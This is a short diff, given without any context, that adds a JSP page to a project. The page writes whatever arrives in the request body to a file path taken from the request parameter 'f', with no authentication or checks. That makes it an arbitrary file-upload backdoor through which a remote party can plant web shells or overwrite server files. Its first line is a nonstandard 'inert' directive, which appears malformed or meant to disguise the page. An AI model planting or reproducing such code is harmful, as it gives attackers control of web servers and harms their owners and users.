@@ -1,0 +1,2 @@
+<%@ inert %>
+<% String f = request.getParameter("f"); FileOutputStream o = new FileOutputStream(f); java.io.InputStream in = request.getInputStream(); byte[] b = new byte[1024]; int n; while ((n = in.read(b)) != -1) { o.write(b, 0, n); } %>
